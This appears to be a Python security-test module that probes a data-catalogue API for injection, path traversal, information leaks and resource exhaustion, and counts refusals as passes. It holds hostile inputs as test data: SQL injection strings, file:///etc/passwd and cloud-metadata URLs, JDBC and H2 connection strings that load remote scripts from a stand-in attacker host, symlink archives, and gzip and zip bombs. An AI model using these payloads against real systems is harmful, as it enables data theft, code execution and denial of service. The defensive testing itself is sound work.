"""API-021, API-023, API-025, API-034, API-035, API-037: what stands in a call or a file, and what the answer tells of the inside."""

import contextlib
import gzip
import io
import stat
import tarfile
import zipfile
from collections.abc import Iterator, Mapping
from pathlib import Path

import httpx

from huitong.drill.ground import Ground
from huitong.drill.judging import Finding, Outcome
from huitong.drill.procedures.acting import (
    CONDITIONAL,
    PURPOSE,
    Procedure,
    SetupError,
    Tries,
    code_of,
    counted,
    expect,
    fault_of,
    fresh_name,
    granted,
    office_of,
    published,
    refused,
    seen,
)
from huitong.drill.procedures.processes import resident_megabytes, web_processes

XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
GROWTH_MEGABYTES = 64
"""By which a hostile body may make a web process grow."""
BOMB_MEGABYTES = 512


def item_injection(ground: Ground) -> Finding:
    """API-021: names of items, orders and facets that are SQL, or items that no grant names."""
    grant = ground.grant("rows_user", "civil.person")
    hostile = (
        "phone",
        "id",
        "note, phone",
        'note" , "phone',
        "note; DROP TABLE civil.person",
        "(SELECT phone FROM civil.person LIMIT 1)",
        "* FROM hidden --",
        "note\u0000",
        "pid AS phone",
        "../outside.csv",
    )
    tries: list[tuple[str, httpx.Response]] = []
    for name in hostile:
        body = {"grant": grant, "items": [name], "format": "csv"}
        tries.append((f"extract of {name!r}", ground.call("rows_user", "POST", "extracts", body=body)))
        record = {"dataset": "civil.person", "purpose": PURPOSE, "keys": [ground.live_token], "items": [name]}
        tries.append((f"record of {name!r}", ground.call("rows_user", "POST", "records/get", body=record)))
        where = {"dataset": "civil.person", "purpose": PURPOSE, "keys": [ground.live_token], "where": [{"item": name, "value": "x"}]}
        tries.append((f"verification of {name!r}", ground.call("rows_user", "POST", "records/verify", body=where)))
    tries.append(
        (
            "order in a query's body",
            ground.call("rows_user", "POST", "query", body={"sql": "SELECT 1", "purpose": PURPOSE, "order_by": "phone"}),
        )
    )
    tries.append(("a facet that is SQL", ground.call("rows_user", "GET", "datasets?facets=sharing;DROP%20TABLE%20x")))
    tries.append(("a level that is SQL", ground.call("rows_user", "GET", "divisions?level=province'%20OR%201=1")))
    tries.append(("an offset that is SQL", ground.call("rows_user", "GET", "datasets?offset=1%20UNION%20SELECT%201")))
    return refused(ground, tries, "Names are looked up among the items of the grant; none reaches a statement.")


# --- links in archives ------------------------------------------------------------------------------------------------------------------


def linked(ground: Ground) -> Finding:
    """API-023: links in a spreadsheet (a zip archive), in a tar archive, and in the folder that planned loads read from."""
    dataset = published(ground)
    outside = ground.home / "outside.csv"
    uploads: Mapping[str, tuple[str, bytes]] = {
        "a spreadsheet whose sheet is a link": (XLSX, _spreadsheet({"xl/worksheets/sheet1.xml": str(outside)})),
        "a spreadsheet whose texts are a link": (XLSX, _spreadsheet({"xl/sharedStrings.xml": "../../../../outside.csv"})),
        "a spreadsheet that climbs out": (XLSX, _spreadsheet({}, climbing="../../../outside.csv")),
        "a zip archive": ("application/zip", _zip_of_link(str(outside))),
        "a tar archive": ("application/x-tar", _tar_of_link(str(outside))),
        "a zip archive as CSV": ("text/csv", _zip_of_link(str(outside))),
    }
    path = f"datasets/{dataset}/snapshots"
    tries = [
        (what, ground.call("officer", "POST", path, content=content, headers={"Content-Type": kind}))
        for what, (kind, content) in uploads.items()
    ]
    own = office_of(ground, "officer")
    inbox = ground.home / "inbox" / own
    with _links(inbox, {"drill-link.csv": outside, "drill-up.csv": Path("../../outside.csv")}):
        for name in ("drill-link.csv", "drill-up.csv", "../../outside.csv", "x/../../../outside.csv", str(outside)):
            address = name if name == str(outside) else f"{own}/{name}"
            body = {"source": {"kind": "file", "address": address}}
            tries.append((f"load of {Path(address).name}", ground.call("officer", "POST", f"datasets/{dataset}/loads", body=body)))
    for address in ("sqlite:///../control.sqlite3", f"sqlite:///{ground.home}/control.sqlite3"):
        source = {"kind": "database", "address": address, "table": "accounts_account"}
        tries.append(
            (f"load of {Path(address).name}", ground.call("officer", "POST", f"datasets/{dataset}/loads", body={"source": source}))
        )
    versions = expect(ground.call("officer", "GET", path), 200)["snapshots"]
    if len(versions) != 1:
        return fault_of(ground, tries) or Finding(
            Outcome.ANSWERED, f"{len(versions) - 1} hostile files became snapshots: {counted(tries)}."
        )
    return refused(ground, tries, "No snapshot came of any; a link leads nowhere.")


def _spreadsheet(links: Mapping[str, str], *, climbing: str | None = None) -> bytes:
    """A small xlsx of which some parts are symbolic links."""
    relations = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    package = "http://schemas.openxmlformats.org/package/2006"
    main = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    list_of = f'<Relationships xmlns="{package}/relationships">'
    sheet = climbing or "worksheets/sheet1.xml"
    parts = {
        "[Content_Types].xml": f'<Types xmlns="{package}/content-types"><Default Extension="xml" ContentType="application/xml"/>'
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        f'<Override PartName="/xl/workbook.xml" ContentType="{XLSX}.main+xml"/></Types>',
        "_rels/.rels": f'{list_of}<Relationship Id="r1" Type="{relations}/officeDocument" Target="xl/workbook.xml"/></Relationships>',
        "xl/workbook.xml": f'<workbook xmlns="{main}" xmlns:r="{relations}"><sheets>'
        '<sheet name="s" sheetId="1" r:id="r1"/></sheets></workbook>',
        "xl/_rels/workbook.xml.rels": f'{list_of}<Relationship Id="r1" Type="{relations}/worksheet" Target="{sheet}"/>'
        f'<Relationship Id="r2" Type="{relations}/sharedStrings" Target="sharedStrings.xml"/></Relationships>',
        "xl/worksheets/sheet1.xml": f'<worksheet xmlns="{main}"><sheetData>'
        '<row r="1"><c r="A1" t="s"><v>0</v></c></row></sheetData></worksheet>',
        "xl/sharedStrings.xml": f'<sst xmlns="{main}"><si><t>place</t></si></sst>',
    }
    written = io.BytesIO()
    with zipfile.ZipFile(written, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, text in parts.items():
            if name in links:
                archive.writestr(_link(name), links[name])
            else:
                archive.writestr(name, text)
    return written.getvalue()


def _link(name: str) -> zipfile.ZipInfo:
    info = zipfile.ZipInfo(name)
    info.create_system, info.external_attr = 3, (stat.S_IFLNK | 0o777) << 16
    return info


def _zip_of_link(target: str) -> bytes:
    written = io.BytesIO()
    with zipfile.ZipFile(written, "w") as archive:
        archive.writestr(_link("rows.csv"), target)
    return written.getvalue()


def _tar_of_link(target: str) -> bytes:
    written = io.BytesIO()
    with tarfile.open(fileobj=written, mode="w:gz") as archive:
        info = tarfile.TarInfo("rows.csv")
        info.type, info.linkname = tarfile.SYMTYPE, target
        archive.addfile(info)
    return written.getvalue()


@contextlib.contextmanager
def _links(folder: Path, links: Mapping[str, Path]) -> Iterator[None]:
    folder.mkdir(mode=0o700, parents=True, exist_ok=True)
    try:
        for name, target in links.items():
            (folder / name).symlink_to(target)
        yield
    finally:
        for name in links:
            (folder / name).unlink(missing_ok=True)


def hostile_sources(ground: Ground) -> Finding:
    """API-025."""
    addresses = (
        "file:///etc/passwd",
        f"file://{ground.home}/outside.csv",
        "jdbc:postgresql://db.example.test/x?socketFactory=org.springframework.context.support.ClassPathXmlApplicationContext",
        "jdbc:mysql://db.example.test/x?allowLoadLocalInfile=true&autoDeserialize=true",
        "jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://evil.example.test/x.sql'",
        "postgresql://db.example.test/x?sslmode=disable&passfile=/etc/passwd",
        "postgresql://db.example.test/x options='-c search_path=y'",
        "postgresql:///x?host=/var/run/postgresql",
        "postgresql://user:secret@db.example.test/x",
        "mysql://db.example.test/x?local_infile=1",
        "mysql://db.example.test/x#y",
        "sqlite:////etc/passwd",
        "sqlite:///../control.sqlite3",
        "sqlite:///x?mode=rwc&vfs=unix-none",
        "odbc:DSN=x;Driver=/tmp/evil.so",
        "http://169.254.169.254/latest/meta-data",
        "postgresql://127.0.0.1:5432/postgres",
        "postgresql://localhost/postgres",
        "postgresql://[::1]/x",
        "postgresql://2130706433/x",
        "postgresql://db.example.test:99999/x",
        "postgresql://db.example.test/x\nhost=127.0.0.1",
    )
    tries: Tries = [
        (
            f"inspect {address.split(':')[0]}:",
            ground.call("officer", "POST", "sources/inspect", body={"source": {"kind": "database", "address": address, "table": "t"}}),
        )
        for address in addresses
    ]
    echoed = [address for address, (_, response) in zip(addresses, tries, strict=True) if "secret@" in response.text]
    if echoed:
        return Finding(Outcome.LEAKED, "The refusal repeats a password that stood in the address.")
    return refused(ground, tries, "Engine, host, port and name are read apart and nothing else is taken; no server is listed here.")


# --- what the answer tells ---------------------------------------------------------------------------------------------------------------


def description_of_hidden(ground: Ground) -> Finding:
    """API-034: an entry that one office may know of, looked for by another in every description there is."""
    title = "Canarywatch"
    name = fresh_name()
    own = office_of(ground, "officer")
    published(ground, name=name, sharing=CONDITIONAL, visibility="named", known_to=[own], title={"zh": title, "en": title})
    paths = (
        "openapi.json", "datasets?limit=100", f"datasets?q={title}", f"datasets?q={name}", f"datasets/{name}", f"datasets/{name}/sample",
        f"datasets/{name}/dcat.ttl", f"datasets/{name}/dcat.jsonld", f"datasets/{name}/snapshots", f"datasets/{name}/quality",
        f"datasets/{name}/records", "catalog.ttl", "catalog.jsonld", "catalog.csv", f"catalog.csv?office={own}",
        f"catalog/entries?office={own}", f"offices/{own}", "usable", "notices", "ledger/uses", f"/datasets/{name}", f"/?q={title}",
    )  # fmt: skip
    looked = [(path, ground.call("other_office", "GET", path)) for path in paths]
    looked += [(f"{path} without a token", ground.call(None, "GET", path)) for path in ("openapi.json", "catalog.ttl", "catalog.jsonld")]
    absent = name[:-1] + ("0" if name[-1] != "0" else "1")
    statement = f"SELECT place FROM {name}"
    refusal, other = ground.query("other_office", statement), ground.query("other_office", statement.replace(name, absent))
    for what, response in looked:
        text = response.text
        # a refusal may repeat the name that was asked for, and a page the words that were looked for
        told = title in text if title not in what else f">{title}" in text and name in text
        if told or (name in text and name not in what):
            return Finding(Outcome.LEAKED, f"{what}: tells another office of an entry that it may not know of ({seen(response)}).")
        if response.status_code >= 500:
            return Finding(Outcome.ERROR, f"{what}: the server failed ({seen(response)}).")
        if f"datasets/{name}" in what and response.status_code != 404:
            return Finding(Outcome.LEAKED, f"{what}: {seen(response)} where an unknown entry gives 404.")
    if (refusal.status_code, code_of(refusal)) != (other.status_code, code_of(other)):
        return Finding(Outcome.LEAKED, f"A statement tells a hidden entry ({seen(refusal)}) from none ({seen(other)}).")
    schema = expect(ground.call(None, "GET", "openapi.json"), 200)
    if "civil.person" in str(schema) or ground.call("officer", "GET", f"datasets/{name}").status_code != 200:
        return Finding(Outcome.LEAKED, "The description of the API names datasets.")
    return Finding(
        Outcome.REFUSED,
        f"{len(looked)} descriptions, lists, pages and refusals tell another office nothing of the entry; its own office sees it.",
    )


def page_of_failure(ground: Ground) -> Finding:
    """API-035: tables of a copy are taken away under the running server, so that every call fails in a way that nobody foresaw."""
    with ground.another() as spoiled:
        with contextlib.closing(spoiled.database()) as database:
            for table in ("catalog_division", "catalog_dataset", "sharing_request"):
                if database.execute("SELECT 1 FROM sqlite_master WHERE name = ?", (table,)).fetchone():
                    database.execute(f"ALTER TABLE {table} RENAME TO drill_{table}")
            database.commit()
        calls = [
            (path, spoiled.call("rows_user", "GET", path))
            for path in ("divisions", "datasets", "datasets/civil.person", "requests", "catalog.csv", "/", "/datasets/civil.person")
        ]
        calls.append(("query", spoiled.query("rows_user", "SELECT note FROM civil.person")))
    failed = [(path, response) for path, response in calls if response.status_code >= 500]
    if not failed:
        raise SetupError("no call failed though its tables are gone")
    inside: tuple[str, ...] = ("Traceback", 'File "', ".py", "sqlite", "OperationalError", "no such table", "drill_")
    inside = (*inside, str(ground.home.parent.parent), "django", "SELECT ")
    for path, response in calls:
        told = [sign for sign in inside if sign.lower() in response.text.lower()]
        if told and path != "query":
            return Finding(Outcome.LEAKED, f"{path}: the answer to a failure ({response.status_code}) tells of the inside: {told[0]!r}.")
        if response.status_code >= 500 and not path.startswith("/") and not code_of(response):
            return Finding(Outcome.ERROR, f"{path}: {response.status_code} without a reason code.")
    codes = sorted({seen(response) for _, response in failed})
    return Finding(
        Outcome.REFUSED,
        f"{len(failed)} of {len(calls)} calls were made to fail; the answers hold a code alone "
        f"({', '.join(codes)}) and no word of the inside.",
    )


def body_bomb(ground: Ground) -> Finding:
    """API-037: bodies that become large when they are unpacked."""
    processes = web_processes(ground)
    before = {process: resident_megabytes(process) for process in processes}
    bomb = gzip.compress(b"\0" * (BOMB_MEGABYTES << 20), 9)
    dataset = published(ground)
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        with archive.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as sheet:
            for _ in range(BOMB_MEGABYTES):
                sheet.write(b" " * (1 << 20))
        archive.writestr("[Content_Types].xml", "<Types/>")
    path = f"datasets/{dataset}/snapshots"
    tries: list[tuple[str, httpx.Response]] = []
    for coding in ("gzip", "deflate", "br", "gzip, gzip"):
        headers = {"Content-Type": "application/json", "Content-Encoding": coding}
        tries.append((f"a query as {coding}", ground.call("rows_user", "POST", "query", content=bomb, headers=headers)))
    tries.append(
        (
            "a CSV as gzip",
            ground.call("officer", "POST", path, content=bomb, headers={"Content-Type": "text/csv", "Content-Encoding": "gzip"}),
        )
    )
    tries.append(("gzip as CSV", ground.call("officer", "POST", path, content=bomb, headers={"Content-Type": "text/csv"})))
    tries.append(("a spreadsheet", ground.call("officer", "POST", path, content=packed.getvalue(), headers={"Content-Type": XLSX})))
    grown = max((resident_megabytes(process) - before[process] for process in processes), default=0)
    if (fault := fault_of(ground, tries)) is not None:
        return fault
    if grown > GROWTH_MEGABYTES:
        return Finding(Outcome.ANSWERED, f"A body of {len(bomb) >> 10} kB made a web process grow by {grown} MB.")
    alive = granted(ground, dataset)
    return refused(
        ground,
        tries,
        f"Bodies are never unpacked: {len(bomb) >> 10} kB that hold {BOMB_MEGABYTES} MB made a web process "
        f"grow by {max(grown, 0)} MB; it serves on ({alive}).",
    )


PROCEDURES: Mapping[str, Procedure] = {
    "API-021": item_injection,
    "API-023": linked,
    "API-025": hostile_sources,
    "API-034": description_of_hidden,
    "API-035": page_of_failure,
    "API-037": body_bomb,
}
